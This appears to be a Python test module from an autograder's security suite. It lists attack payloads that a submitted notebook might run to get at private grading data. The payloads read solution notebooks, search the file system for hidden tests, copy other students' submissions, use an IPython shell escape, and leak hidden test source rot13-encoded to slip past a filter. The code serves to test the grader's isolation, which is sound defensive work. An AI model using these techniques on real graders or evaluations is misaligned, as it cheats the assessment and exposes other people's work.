"""Reading what the grader keeps private: solutions, hidden tests, other students' work.

Each attack defines the function from whatever source text it can find; if the grader's
files were readable, it would earn the points.
"""

from functools import partial

from attacks import Attack as _Attack

Attack = partial(_Attack, isolation=True)

#: Looks for the solution of `name` in a notebook's JSON text; defines it when found.
_FROM_NOTEBOOK = """
import json as _json

def _steal(text, name):
    try:
        cells = _json.loads(text)["cells"]
    except Exception:
        return False
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") == name:
            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            if "NotImplementedError" not in src:
                exec(src, globals())
                return True
    return False
"""

ATTACKS = [
    Attack("read_solutions_folder", "02_softmax", "softmax", _FROM_NOTEBOOK + """
import os
for _path in ["@@SOLUTIONS@@/02_softmax/02_softmax.ipynb", "../solutions/02_softmax/02_softmax.ipynb",
              "../../solutions/02_softmax/02_softmax.ipynb",
              os.path.expanduser("~/solutions/02_softmax/02_softmax.ipynb")]:
    try:
        if _steal(open(_path).read(), "softmax"):
            break
    except OSError:
        pass
""", "reads the solution notebook from solutions/ (absolute and relative paths)"),
    Attack("search_for_hidden_tests", "02_softmax", "softmax", _FROM_NOTEBOOK + """
import os
_found, _seen = [], 0
for _root in ["/", "/tmp", os.path.expanduser("~"), os.getcwd()]:
    for _dir, _subdirs, _files in os.walk(_root):
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "usr", "dev", ".venv",
                                                         ".git", "node_modules")]
        _seen += len(_files)
        if _seen > 20000:
            break
        for _f in _files:
            if _f.endswith(".ipynb") or _f.endswith(".db"):
                try:
                    _text = open(os.path.join(_dir, _f), errors="replace").read()
                except OSError:
                    continue
                if "BEGIN HIDDEN TESTS" in _text:
                    _found.append(_text)
                    _steal(_text, "softmax")
for _text in _found:
    print(_text[:20000])
""", "walks the file system for notebooks or databases holding hidden tests, prints them "
     "(into its own feedback) and takes the solution from them"),
    Attack("copy_other_student", "02_softmax", "softmax", _FROM_NOTEBOOK + """
import glob
for _path in glob.glob("@@SUBMISSIONS@@/*/02_softmax/*.ipynb"):
    try:
        if _steal(open(_path).read(), "softmax"):
            break
    except OSError:
        pass
""", "copies the answer of another student from SUBMISSIONS"),
    Attack("read_grader_copies", "02_softmax", "softmax", _FROM_NOTEBOOK + """
import glob, tempfile
for _pattern in ["/tmp/autograder-*/**/*.ipynb", tempfile.gettempdir() + "/autograder-*/**/*.ipynb",
                 "/tmp/*/**/02_softmax*.ipynb"]:
    for _path in glob.glob(_pattern, recursive=True):
        try:
            if _steal(open(_path).read(), "softmax"):
                break
        except OSError:
            pass
""", "looks for the grader's private copies of notebooks in the temp folder"),
    Attack("shell_escape", "02_softmax", "softmax", _FROM_NOTEBOOK + """
_lines = !cat @@SOLUTIONS@@/02_softmax/02_softmax.ipynb 2>/dev/null
_steal("\\n".join(_lines), "softmax")
""", "uses an IPython shell escape (!cat) to read the solution"),
    Attack("read_grading_output", "02_softmax", "softmax", _FROM_NOTEBOOK + """
import glob
for _path in glob.glob("@@OUT@@/**/*", recursive=True):
    try:
        print(open(_path).read()[:2000])
    except OSError:
        pass
""" + """
def softmax(z, axis=-1):
    return np.full(np.shape(z), 0.5)
""", "reads the grading output of earlier students"),
    Attack("leak_hidden_tests_in_memory", "02_softmax", "softmax_with_temperature", """
import codecs, sys

def _sources():
    found, frame = [], sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for item in (value if isinstance(value, (list, tuple)) else [value]):
                if isinstance(item, dict) and "HIDDEN" in str(item.get("source", "")):
                    found.append(item["source"])
        frame = frame.f_back
    return found

def softmax_with_temperature(z, temperature):
    for text in _sources():
        print(codecs.encode(text, "rot13"))
    raise ValueError("no")
""", "walks up the call stack of its own process to the test cells' source and prints it, "
     "rot13-encoded (which a line filter cannot recognise), into its feedback",
           isolation=False),
]
